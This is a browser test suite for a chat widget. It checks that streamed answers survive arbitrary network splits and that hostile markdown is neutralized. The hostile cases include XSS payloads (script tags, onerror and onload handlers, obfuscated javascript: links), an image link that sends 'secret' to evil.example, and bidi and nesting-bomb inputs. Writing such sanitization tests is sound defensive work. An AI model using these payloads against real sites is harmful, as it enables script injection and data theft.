"""A stream that the network cuts wherever it likes, and text that means harm, through the real widget."""

from __future__ import annotations

import json

import pytest

from tests.e2e.widget_page import CHAT, ask, in_chat, open_chat, opened
from tests.widget import stub

pytestmark = pytest.mark.browser

# The chat's own stream is replaced by pieces that a test hands over; everything else stays the browser's.
SERVE = """
window.pieces = null; window.ran = 0;
const real = window.fetch;
window.fetch = (address, options) => {
  if (!window.pieces || !String(address).endsWith("/messages")) return real(address, options);
  const pieces = window.pieces;
  const body = new ReadableStream({ start(out) { for (const piece of pieces) out.enqueue(piece); out.close(); } });
  return Promise.resolve(new Response(body, { headers: { "Content-Type": "text/event-stream" } }));
};
window.answerFrom = async (pieces) => {
  const root = document.querySelector("docent-chat").shadowRoot;
  for (const old of root.querySelectorAll(".msg:not(.first)")) old.remove();
  window.pieces = pieces;
  await Docent.ask("x");
  return [...root.querySelectorAll(".bot:not(.first)")].map((node) => node.innerHTML).join("|");
};
"""
TEXT = "Grüße 👩‍👩‍👧 from *here* [1]: `a\nb`\n\n- one\n- two"
RECORDED = b"".join([
    b": hello\n\n",
    stub.event("meta", message_id="m1"),
    b'data: {"text": "an event without a name"}\n\n',
    b'event: delta\ndata:{"text": "draft"}\n\n',
    b": still here\n\n",
    b'id: 7\nretry: 10\nevent: replace\ndata: {"text":\ndata: ' + json.dumps(TEXT, ensure_ascii=False).encode() + b"}\n\n",
    b"event: delta\ndata: {broken\n\n",
    b"event: unheard-of\ndata: {}\n\n",
    stub.event("sources", sources=stub.SOURCES),
    stub.event("done", message_id="m1", state="grounded", finish="stop"),
])  # fmt: skip


@pytest.fixture(scope="module")
def page(browser, widget_servers):
    api, site = widget_servers
    api.reset()
    with opened(browser, site.put("/stream"), init=SERVE) as page:
        open_chat(page)
        yield page


def whole(page, body: bytes) -> str:
    return page.evaluate("(bytes) => answerFrom([new Uint8Array(bytes)])", list(body))


def test_a_stream_cut_at_any_byte_is_the_same_answer(page):
    expected = whole(page, RECORDED)
    assert "👩‍👩‍👧" in expected
    assert expected.count("<details") == 2
    assert "draft" not in expected
    assert "note" not in expected
    differing = page.evaluate(
        """async ([bytes, expected]) => {
          const all = new Uint8Array(bytes), differing = [];
          for (let cut = 1; cut < all.length; cut += 1)
            if (await answerFrom([all.slice(0, cut), all.slice(cut)]) !== expected) differing.push(cut);
          return differing;
        }""",
        [list(RECORDED), expected],
    )
    assert differing == []


@pytest.mark.parametrize("ending", [b"\r\n", b"\r", b"\n"])
def test_byte_by_byte_and_with_any_line_end_it_is_the_same_answer(page, ending):
    expected = whole(page, RECORDED)
    body = RECORDED.replace(b"\n", ending)
    found = page.evaluate("(bytes) => answerFrom(Array.from(bytes, (byte) => new Uint8Array([byte])))", list(body))
    assert found == expected


def test_a_stream_that_just_ends_is_said_to_be_cut_off(page):
    cut = RECORDED[: RECORDED.index(b"event: done")]
    assert "The answer was cut off." in whole(page, cut)
    assert "Try again" in whole(page, b"")
    assert "Try again" in whole(page, b"<html>a captive portal</html>")


def test_the_real_network_cuts_it_too(browser, widget_servers):
    api, site = widget_servers
    api.reset()
    api.stream = [RECORDED[i : i + 1] for i in range(len(RECORDED))]
    with opened(browser, site.put("/bytes")) as page:
        open_chat(page)
        ask(page)
        assert "👩‍👩‍👧" in page.inner_text(f"{CHAT} .bot:not(.first) .b")


# --- text that means harm

RAN = "window.ran = (window.ran || 0) + 1"
HOSTILE = {
    "script": f'<script>{RAN}</script><img src=x onerror="{RAN}"><svg onload={RAN}>',
    "links": f"[a](javascript:{RAN}) [b](JaVaScRiPt:{RAN}) [c](data:text/html,x) [d](vbscript:x) [e](//evil.example) "
             f"[f](\x01javascript:{RAN}) [g](https://ok.example/) <javascript:{RAN}> [h](java\tscript:{RAN})",
    "pictures": "![secret](https://evil.example/?q=secret) ![x][y]",
    "long words": "a" * 10_000,
    "long code": "`" + "b" * 390 + "`\n```\n" + "c" * 5000 + "\n```",
    "deep lists": "\n".join(" " * n + "- x" for n in range(200)),
    "deep quotes": ">" * 3000 + " x\n" + "\n".join(">" * n + " y" for n in range(100)),
    "bidi": "\u202eevil\u202c \u2066user\u2069 \u202e" * 50,
    "stars": "*" * 4000, "brackets": "[" * 4000, "ticks": "`" * 4000, "pipes": ("|" * 80 + "\n") * 45,
    "half marks": "**a " * 900 + "[b](" * 200 + "`c " * 200, "rules": ("- " * 1000 + "x\n") * 4,
    "wide table": "|" + "h|" * 200 + "\n|" + "-|" * 200 + "\n" + ("|" + "d" * 100 + "|") * 20,
    "citations": "".join(f"[{n % 1000}]" for n in range(800)), "addresses": "https://a.example/" * 200,
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_nothing_runs_and_the_layout_holds(page, case):
    text = HOSTILE[case]
    body = b"".join(
        stub.answer(text, [{**stub.SOURCES[0], "title": text[:3000], "quote": text, "url": "javascript:ran=1"}])
    )
    whole(page, body)
    assert page.evaluate("() => window.ran") == 0
    assert (
        in_chat(page, "root.querySelectorAll('script, img, svg:not([aria-hidden]), iframe, [style*=url]').length") == 0
    )
    links = in_chat(page, "[...root.querySelectorAll('.log a')].map((a) => [a.protocol, a.rel, a.target])")
    assert all(link == ["https:", "noopener noreferrer nofollow", "_blank"] for link in links)
    assert in_chat(page, "root.querySelector('.log').scrollWidth - root.querySelector('.log').clientWidth") <= 0
    assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
    assert "\u202e" not in in_chat(page, "root.querySelector('.log').textContent")


@pytest.mark.parametrize("case", HOSTILE)
def test_four_kilobytes_are_drawn_in_time(page, case):
    text = (HOSTILE[case] * 50)[:4096]
    body = list(b"".join(stub.answer(text)))
    took = page.evaluate(
        """async (bytes) => {
          let best = Infinity;
          for (let i = 0; i < 20 && best > 50; i += 1) {
            const start = performance.now();
            await answerFrom([new Uint8Array(bytes)]);
            best = Math.min(best, performance.now() - start);
          }
          return best;
        }""",
        body,
    )
    assert took <= 50


def test_a_question_is_shown_as_it_was_typed(browser, widget_servers):
    api, site = widget_servers
    api.reset()
    with opened(browser, site.put("/typed"), init=SERVE) as page:
        open_chat(page)
        ask(page, HOSTILE["script"] + "\n[x](https://a.example)")
        assert page.inner_text(f"{CHAT} .client .b").startswith("<script>")
        assert in_chat(page, "root.querySelectorAll('.client .b *').length") == 0
        assert page.evaluate("() => window.ran") == 0


def test_markdown_becomes_elements(page):
    text = """# Head

A *b* **c [1]** `d` and https://x.example/y.

1. one
   more
   - deep
2. two

> quoted
> - in a list

| a | b |
|---|:-:|
| 1 | [l](mailto:x@y.example) |

---
```
code | no table
```
"""
    drawn = whole(page, b"".join(stub.answer(text, stub.SOURCES)))
    tags = in_chat(page, "[...root.querySelectorAll('.bot:not(.first) .b *')].map((n) => n.tagName).join(' ')")
    assert tags == (
        "H3 P EM STRONG BUTTON CODE A OL LI BR UL LI LI BLOCKQUOTE P UL LI DIV TABLE THEAD TR TH TH TBODY TR TD TD A HR PRE"
    )
    assert "code | no table" in drawn
